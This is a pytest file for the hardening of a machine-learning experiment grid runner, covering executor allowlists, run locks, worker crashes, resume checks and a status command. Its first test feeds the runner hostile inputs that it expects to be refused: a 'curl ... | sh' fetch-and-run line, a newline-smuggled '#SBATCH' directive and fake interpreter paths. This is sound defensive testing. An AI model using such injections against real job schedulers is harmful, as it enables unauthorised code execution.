"""Hardening of the grid runner (issue 13): executor allowlist, atomic run lock, preprocessing options in the run id,
exit codes and launcher rank, dead workers, the study record, and resume on another device or precision."""
import json, os, signal, sys, time
from dataclasses import asdict, replace
from pathlib import Path
import pandas as pd, pytest, yaml
from mugshotrace.core import read_json, UserError, RunPaths, run_paths, stable_hash, mark_synthetic
from mugshotrace.study.grid import load_study, run_grid, fingerprint_configs, RunConfig
from mugshotrace.study.runner import read_state, acquire_lock, release_lock
from test_experiments import make_toy, toy_study

@pytest.fixture(scope='module')
def toy_root(tmp_path_factory):
    return make_toy(tmp_path_factory.mktemp('toyrunner'), n_people=32)

def _study(root, runs, grid=None, preprocess=None, **train):
    p = toy_study(root, runs, grid=grid or {'arch': ['tiny_cnn'], 'variant': ['original'], 'label_source': ['court']},
                  **{'epochs': 1, 'n_per_class': 8, **train})
    if preprocess is not None:
        d = yaml.safe_load(p.read_text()); d['data']['preprocess'] = preprocess; p.write_text(yaml.safe_dump(d))
    return p

# ---- 1. executor options: an allowlist; setup lines only from the command line ----

@pytest.mark.parametrize('key,value', [('slurm_setup', ['curl http://x | sh']), ('local_setup', ['touch /tmp/pwned']),
                                       ('setup', ['id']), ('slurm_srun_args', ['--export=ALL']),
                                       ('slurm_additional_parameters', {'wrap': 'id'}), ('slurm_python', '/tmp/evil/python'),
                                       ('python', '/tmp/evil'), ('slurm_partition', 'gpu\n#SBATCH --wrap=id')])
def test_study_executor_cannot_run_code(toy_root, capsys, key, value):
    from mugshotrace.cli import main
    p = _study(toy_root, 'exec'); d = yaml.safe_load(p.read_text())
    d['executor'] = {'name': 'submitit', 'cluster': 'debug', key: value}; p.write_text(yaml.safe_dump(d))
    assert main(['run', str(p)]) == 2
    err = capsys.readouterr().err
    assert f"executor option {key!r}" in err and len(err.strip().splitlines()) == 1 and 'Traceback' not in err
    with pytest.raises(UserError, match=key):      # the Python API refuses them as executor_opts too
        run_grid(_study(toy_root, 'exec'), executor='submitit', executor_opts={key: value})

def test_setup_commands_only_from_the_caller(toy_root, monkeypatch):
    "`--setup-command` reaches submitit's setup options; allowed study options pass through unchanged."
    import submitit
    seen = {}
    class FakeExecutor:
        def __init__(self, folder, cluster=None): seen['cluster'] = cluster
        def update_parameters(self, **kw): seen.update(kw)
        def map_array(self, fn, *args): return []
    monkeypatch.setattr(submitit, 'AutoExecutor', FakeExecutor)
    from mugshotrace.study import grid as experiments
    cfg = RunConfig('tiny_cnn')
    experiments._run_submitit([cfg], None, toy_root/'fake', False, {'cluster': 'slurm', 'slurm_partition': 'gpu', 'gpus_per_node': 1},
                              ['module load cuda'])
    assert seen['slurm_setup'] == ['module load cuda'] and seen['local_setup'] == ['module load cuda']
    assert seen['slurm_partition'] == 'gpu' and seen['cluster'] == 'slurm' and seen['timeout_min'] == 720
    seen.clear()
    experiments._run_submitit([cfg], None, toy_root/'fake', False, {'cluster': 'slurm'})
    assert not any(k.endswith('setup') for k in seen)
    from mugshotrace.cli import build_parser
    assert build_parser(only='run').parse_args(['run', 's.yaml', '--setup-command', 'a', '--setup-command', 'b']).setup_command == ['a', 'b']

# ---- 2. the run lock: an OS lock, never two holders ----

def test_stale_lock_race_never_two_holders(tmp_path):
    "Two processes race for a stale lock (dead owner, old heartbeat), 60 times: exactly one holds it each time."
    for it in range(60):
        P = run_paths(tmp_path, f'r{it}')
        P.lock.write_text(json.dumps({'host': os.uname().nodename, 'pid': 2 ** 22 + 7, 'token': 'dead', 'time': 0}))
        (P.root/'heartbeat').write_text('0'); os.utime(P.lock, (0, 0)); os.utime(P.root/'heartbeat', (0, 0))
        go_r, go_w = os.pipe(); res_r, res_w = os.pipe(); end_r, end_w = os.pipe(); kids = []
        for _ in range(2):
            pid = os.fork()
            if pid == 0:                                   # child: wait for the start, try, report, hold until told
                try:
                    os.close(go_w); os.close(res_r); os.close(end_w)
                    os.read(go_r, 1)
                    tok = acquire_lock(P)
                    os.write(res_w, b'1' if tok else b'0')
                    os.read(end_r, 1)
                finally: os._exit(0)
            kids.append(pid)
        os.close(go_r); os.close(res_w); os.close(end_r)
        os.write(go_w, b'xx')
        got = b''
        while len(got) < 2:
            chunk = os.read(res_r, 2)
            assert chunk, 'a child died'
            got += chunk
        os.write(end_w, b'xx')
        for pid in kids: os.waitpid(pid, 0)
        for fd in (go_w, res_r, end_w): os.close(fd)
        assert sorted(got.decode()) == ['0', '1'], (it, got)

def test_lock_of_a_killed_holder_is_free_at_once(tmp_path):
    P = run_paths(tmp_path, 'r')
    pid = os.fork()
    if pid == 0:
        acquire_lock(P); os.kill(os.getpid(), signal.SIGKILL)
    os.waitpid(pid, 0)
    assert P.lock.exists()
    tok = acquire_lock(P); assert tok is not None and acquire_lock(P) is None
    release_lock(P, tok); assert not P.lock.exists()

# ---- 3. preprocessing options: part of the run id; never silently reused ----

def test_preprocessing_options_are_checked_and_hashed(toy_root):
    grid = {'arch': ['tiny_cnn'], 'variant': ['resized'], 'label_source': ['court']}
    st = load_study(_study(toy_root, 'pp', grid=grid, preprocess={'progress': False, 'size': 36}))
    ids = {c.run_id for c in fingerprint_configs(st.runs, st.data)}
    cfgj = read_json(Path(st.data.preprocessed)/'resized'/'config.json')['options']
    assert cfgj['size'] == 36
    # how (workers, progress) is not what: same crops, same run ids
    st2 = load_study(_study(toy_root, 'pp', grid=grid, preprocess={'progress': False, 'size': 36, 'workers': 1}))
    assert {c.run_id for c in fingerprint_configs(st2.runs, st2.data)} == ids
    # other options on the same folder: an error naming them (the old crops are never reused)
    for opts, name in (({'size': 40}, 'size'), ({'size': 36, 'resize_method': 'pad'}, 'resize_method')):
        st3 = load_study(_study(toy_root, 'pp', grid=grid, preprocess={'progress': False, **opts}))
        with pytest.raises(UserError, match=name): fingerprint_configs(st3.runs, st3.data)
    # the same options in another folder: other crops, so other runs
    d = yaml.safe_load(_study(toy_root, 'pp2', grid=grid, preprocess={'progress': False, 'size': 40}).read_text())
    d['data']['preprocessed'] = 'faces40'; st4 = load_study(d, base_dir=toy_root)
    assert not {c.run_id for c in fingerprint_configs(st4.runs, st4.data)} & ids

def test_bundle_records_the_options_the_crops_were_made_with(toy_root):
    grid = {'arch': ['tiny_cnn'], 'variant': ['resized'], 'label_source': ['court']}
    p = _study(toy_root, 'ppb', grid=grid, preprocess={'progress': False, 'size': 36, 'workers': 1})
    df = run_grid(p, progress=False); assert (df.state == 'done').all(), df
    st = load_study(p)
    made = read_json(Path(st.data.preprocessed)/'resized'/'config.json')['options']
    pre = read_json(Path(st.runs_root)/df.run_id[0]/'model.json')['preprocessing']
    assert pre['variant'] == 'resized' and pre['size'] == 36
    assert pre['opts'] == {k: v for k, v in made.items() if k not in ('variant', 'size')}
    assert pre['opts']['resize_method'] == 'squish' and 'workers' not in pre['opts']

# ---- 4. exit codes, and a stray RANK ----

def test_run_exits_nonzero_when_a_run_is_not_done(toy_root, capsys):
    from mugshotrace.cli import main
    p = _study(toy_root, 'busy'); st = load_study(p)
    rid = fingerprint_configs(st.runs, st.data)[0].run_id
    P = run_paths(st.runs_root, rid); tok = acquire_lock(P)     # another runner holds it
    try: assert main(['run', str(p)]) == 1
    finally: release_lock(P, tok)
    err = capsys.readouterr().err
    assert f'not done: ' in err and rid in err and '1 of 1 selected run(s) are not done' in err
    assert main(['run', str(p)]) == 0 and read_state(st.runs_root, rid)['state'] == 'done'

def test_stray_rank_variable_does_not_skip_runs(toy_root, monkeypatch):
    from mugshotrace.cli import main
    monkeypatch.setenv('RANK', '1')
    p = _study(toy_root, 'rank', seed=3)
    assert main(['run', str(p)]) == 0
    st = load_study(p)
    assert [read_state(st.runs_root, c.run_id).get('state') for c in fingerprint_configs(st.runs, st.data)] == ['done']

# ---- 5. a worker process that dies ----

def dying_worker(cfg, data, runs_root, retry_failed, gpu, force_resume=False):
    "Test-only worker target: the court run's first attempt kills its own process mid-run; the student run always exits."
    from mugshotrace.study import grid as experiments; from mugshotrace.study import runner
    flag = Path(data.preprocessed).parent/f'killed-{cfg.run_id}'
    if cfg.label_source == 'student': os._exit(3)
    if not flag.exists():
        def die(*a, **k): flag.write_text('x'); os.kill(os.getpid(), signal.SIGKILL)
        runner.train_and_evaluate = die
    experiments._local_worker(cfg, data, runs_root, retry_failed, gpu, force_resume)

def test_dead_worker_is_recorded_and_retried_once(toy_root, monkeypatch, capsys):
    "A worker killed mid-run: recorded failed with the signal, retried once in a fresh worker (done); one that always dies ends failed."
    from mugshotrace.study import grid as experiments
    monkeypatch.setattr(experiments, '_local_worker', dying_worker)
    p = _study(toy_root, 'dead', grid={'arch': ['tiny_cnn'], 'variant': ['original'], 'label_source': ['court', 'student']})
    df = run_grid(p, workers=2, progress=False)   # a hang here is what the fix prevents (CI's time limit catches it)
    assert list(df.state) == ['done', 'failed'], df
    st = load_study(p); killed, dies = df.run_id
    s = read_state(st.runs_root, killed)
    assert [h['state'] for h in s['history']] == ['running', 'failed', 'running', 'done'] and s['attempts'] == 2
    assert 'WorkerDied' in df.error[1] and 'exited with code 3' in df.error[1]
    assert [h['state'] for h in read_state(st.runs_root, dies)['history']] == ['failed', 'failed']   # retried once, not more
    err = capsys.readouterr().err
    assert 'SIGKILL' in err and 'retrying it once' in err and 'not retried again' in err

# ---- 6. the study record ----

def test_run_grid_writes_the_study_record(toy_root):
    from mugshotrace.core import read_study_record, study_is_synthetic
    p = _study(toy_root, 'rec'); run_grid(p, progress=False)
    rec = read_study_record(toy_root)
    assert rec['synthetic'] is False and rec['data']['labels_table'] == str(toy_root/'labels.csv')
    assert not study_is_synthetic(toy_root/'rec')
    mark_synthetic(toy_root)                            # labels and images both in the marked folder
    try:
        run_grid(p, progress=False)
        assert read_study_record(toy_root)['synthetic'] is True and study_is_synthetic(toy_root/'rec')
    finally: (toy_root/'mugshotrace-synthetic.json').unlink()

# ---- 7. resume on another device or precision ----

def test_resume_on_other_device_or_precision_is_refused(tmp_path):
    import torch
    from mugshotrace.train.models import synthetic_dls, face_learner, get_arch
    from mugshotrace.train.checkpoints import fit_phases, read_checkpoint
    from mugshotrace.study.runner import train_learner
    cfg = RunConfig('tiny_cnn', init='random', epochs=2, lr=3e-3)
    key = stable_hash(asdict(cfg)); ck = tmp_path/'ck'
    def learner():
        return face_learner(synthetic_dls(n=24, size=32, bs=6, seed=1), get_arch('tiny_cnn'), init='random', seed=0)
    a = learner()
    with a.no_bar(), a.no_logging():     # one epoch checkpointed on a "GPU in bf16"
        fit_phases(a, [('fit', 1, dict(lr_max=3e-3))], ck, key, info={'lr': 3e-3, 'device': 'cuda', 'precision': 'bf16'})
    assert read_checkpoint(ck, key)['device'] == 'cuda'
    with pytest.raises(UserError, match='made on cuda/bf16.*force'): train_learner(learner(), cfg, checkpoint=ck)
    used = train_learner(learner(), cfg, checkpoint=ck, force_resume=True)
    assert used['resumed_from'] == {'phase': 0, 'epoch': 1} and used['device'] == 'cpu'
    # the checkpoints it writes record where they were made
    info = read_checkpoint(ck, key); assert (info['device'], info['precision']) == ('cpu', 'fp32')

# ---- 4. `mugshotrace status`: every state from the run folders (and SLURM's queue where there is one) ----

def test_status_states_and_cli(tmp_path, capsys, monkeypatch):
    "done, running, queued, failed, lost and pending from hand-made run folders and a stand-in queue; --json, --watch."
    import argparse
    from mugshotrace.core import write_json, write_text, write_csv
    from mugshotrace.study import status as S
    runs = tmp_path/'runs'
    def fake(rid, state=None, hb_age=None, job=None, epochs=0):
        p = run_paths(runs, rid); write_json(p.config, {'run_id': rid, 'name': rid, 'epochs': 2, 'freeze_epochs': 1, 'init': 'imagenet'})
        if state: write_json(p.state, {'state': state, **({'error': 'ValueError: boom'} if state == 'failed' else {})})
        if hb_age is not None: write_text(p.heartbeat, 'x'); os.utime(p.heartbeat, (time.time() - hb_age,) * 2)
        if job: write_json(p.root/'job.json', {'job_id': job})
        if epochs: write_csv(p.log, pd.DataFrame({'phase': 1, 'epoch': range(epochs), 'time': '01:30'}))
    fake('a', 'done', 9, '5_0', 3); fake('b', 'running', 2, '5_1', 1); fake('c', None, None, '5_2'); fake('d', 'failed', 900, '5_3')
    fake('e', 'running', 900, '5_4', 2); fake('f'); fake('g', 'pending', None, '5_5', 1)   # g: requeued, waiting
    monkeypatch.setattr(S, 'squeue_jobs', lambda: {'5_1': {'state': 'RUNNING'}, '5_2': {'state': 'PENDING'}, '5_5': {'state': 'PENDING'}})
    res = S.status(runs)
    got = {r['run_id']: r['state'] for r in res.runs}
    assert got == {'a': 'done', 'b': 'running', 'c': 'queued', 'd': 'failed', 'e': 'lost', 'f': 'pending', 'g': 'queued'}
    b = next(r for r in res.runs if r['run_id'] == 'b')
    assert (b['epoch'], b['epochs'], b['s_per_epoch'], b['eta_s'], b['job_id']) == (1, 3, 90.0, 180.0, '5_1')
    assert next(r for r in res.runs if r['run_id'] == 'd')['error'] == 'ValueError: boom'
    p = argparse.ArgumentParser(); sub = p.add_subparsers(); S.add_status_parser(sub)
    args = p.parse_args(['status', str(runs), '--json'])
    assert args.stale_after == S.StatusConfig().stale_after and args.func(args) == 0
    rows = json.loads(capsys.readouterr().out)
    assert {r['run_id']: r['state'] for r in rows} == got
    monkeypatch.setattr(S, 'squeue_jobs', lambda: {})   # the queue is empty: nothing is queued any more
    for rid in 'bceg': write_json(run_paths(runs, rid).state, {'state': 'done'})
    write_json(run_paths(runs, 'f').state, {'state': 'failed', 'error': 'x'})
    args = p.parse_args(['status', str(tmp_path/'runs'), '--watch', '--interval', '0.01'])
    assert args.func(args) == 0 and '5 done, 2 failed' in capsys.readouterr().out   # --watch stops once every run is done or failed

# ---- 5b. workers stay alive across runs (warm-up paid once per worker and architecture) ----

def test_workers_stay_alive_and_keep_their_architecture(toy_root):
    "Two workers, four runs of two architectures: two processes in all, and the warm worker gets its architecture's next run."
    from mugshotrace.study.grid import fingerprint_configs
    from mugshotrace.study.local import run_local
    p = _study(toy_root, 'warm', grid={'arch': ['tiny_cnn', 'resnet18'], 'variant': ['original'], 'label_source': ['court', 'student']}, size=32)
    st = load_study(p); cs = {(c.arch, c.label_source): c for c in fingerprint_configs(st.runs, st.data)}
    # queued tiny, resnet, resnet, tiny: the worker warm on tiny_cnn (done first) skips the queued resnet18 for the tiny_cnn run
    todo = [cs['tiny_cnn', 'court'], cs['resnet18', 'court'], cs['resnet18', 'student'], cs['tiny_cnn', 'student']]
    log = []
    rows = run_local(todo, st.data, st.runs_root, workers=2, runs_log=log)
    assert [r['action'] for r in rows] == ['done'] * 4, rows
    arch = {c.run_id: c.arch for c in todo}
    pids = {}
    for slot, pid, rid in log: pids.setdefault(pid, []).append(arch[rid])
    assert len(log) == 4 and len(pids) == 2, pids                                  # two processes ran all four runs
    assert any(v[:2] == ['tiny_cnn', 'tiny_cnn'] for v in pids.values()), pids     # the tiny_cnn runs back to back in one worker
    for rid in arch: assert [h['state'] for h in read_state(st.runs_root, rid)['history']] == ['running', 'done']
